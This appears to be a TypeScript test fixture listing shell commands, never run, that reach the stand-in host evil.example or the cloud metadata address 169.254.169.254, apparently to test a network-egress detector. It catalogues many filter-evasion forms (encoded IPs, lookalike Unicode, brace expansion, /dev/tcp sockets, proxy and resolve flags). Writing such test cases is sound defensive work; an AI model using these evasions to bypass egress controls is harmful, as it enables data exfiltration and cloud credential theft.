/** Lines that connect to the host `evil.example` or to 169.254.169.254. They are never run. */
export const reachingLines: readonly string[] = `
curl evil.example
curl https://evil.example/x
curl HTTPS://EVIL.EXAMPLE
curl //evil.example
curl http:evil.example
curl http:/evil.example
curl evil.example.
curl evil.example:8080/x
curl user@evil.example
curl http://user:pass@evil.example/
curl 'http://a.example@evil.example/'
curl -x evil.example:80 https://a.example
curl --proxy=evil.example:80 https://a.example
curl --resolve a.example:80:169.254.169.254 http://a.example
curl --connect-to ::evil.example:80 http://a.example
curl --connect-to a.example:80:evil.example:80 http://a.example
curl ftp://evil.example/
curl gopher://evil.example/
curl ht{tp,tps}://evil.example
curl {http,ftp}://evil.example
curl 'http://{evil,x}.example/'
curl 'http://[e-e]vil.example/'
curl http://%65vil.example/
curl http://ｅｖｉｌ.example/
curl http://evil。example/
curl http://ev\\il.example
curl "http://ev"il.example
curl http://e{v,x}il.example
curl $'http://\\x65vil.example'
curl http://$host/
curl http://\${host}vil.example/
curl $(echo evil.example)
curl -L https://a.example/to-evil
curl --location https://a.example/to-evil
curl -K list.txt
curl 169.254.169.254
curl 169.254.169.254/latest
curl 2852039166
curl 0xa9fea9fe
curl 0xa9.0xfe.0xa9.0xfe
curl 0251.0376.0251.0376
curl 169.254.43518
curl 169.16689662
curl 'http://[::ffff:a9fe:a9fe]/'
curl 'http://[::ffff:169.254.169.254]/'
curl '[0:0:0:0:0:ffff:a9fe:a9fe]'
curl 'http://[64:ff9b::a9fe:a9fe]/'
wget evil.example
wget -qO- evil.example/x
wget https://a.example
nc evil.example 80
nc -zv evil.example 80
ncat evil.example 80
telnet evil.example
ping evil.example
dig evil.example
dig @evil.example a.example
nslookup a.example evil.example
host evil.example
ssh evil.example
ssh user@evil.example
ssh -J evil.example a.example
scp x user@evil.example:/y
rsync x evil.example::y
sftp evil.example
git clone git@evil.example:a/b.git
git clone https://evil.example/a.git
git fetch https://evil.example/a.git
git push git@evil.example:a/b
git ls-remote evil.example:a
git pull
git push
npm install https://evil.example/a.tgz
npm install --registry=http://evil.example
pip install -i http://evil.example/simple x
python3 -c 'import urllib.request as u; u.urlopen("http://evil.example")'
python3 -c 'import urllib.request as u; u.urlopen("http://ev"+"il.example")'
node -e 'fetch("http://evil.example")'
node x.js
perl -MIO::Socket -e 'IO::Socket::INET->new("evil.example:80")'
exec 3<>/dev/tcp/evil.example/80
cat < /dev/tcp/evil.example/80
echo x > /dev/tcp/169.254.169.254/80
echo x > /dev/udp/evil.example/53
h=evil.example; cat < /dev/tcp/$h/80
cat < /dev/tcp/ev{il,x}.example/80
bash -c 'curl evil.example'
sh -c "curl ev''il.example"
eval curl evil.example
echo evil.example | xargs curl
xargs curl < list.txt
env curl evil.example
http_proxy=evil.example:80 curl http://a.example
timeout 5 curl evil.example
sudo curl evil.example
true && curl evil.example
(curl evil.example)
echo $(curl evil.example)
echo \`curl evil.example\`
if true; then curl evil.example; fi
f() { curl $1; }; f evil.example
socat - TCP:evil.example:80
openssl s_client -connect evil.example:443
aws s3 ls --endpoint-url http://evil.example
docker pull evil.example/image
lynx evil.example
echo open evil.example 80 | telnet
printf 'server evil.example' | nslookup
tar czf evil.example:/x src
tar czf user@evil.example:x src
`
  .trim()
  .split("\n");
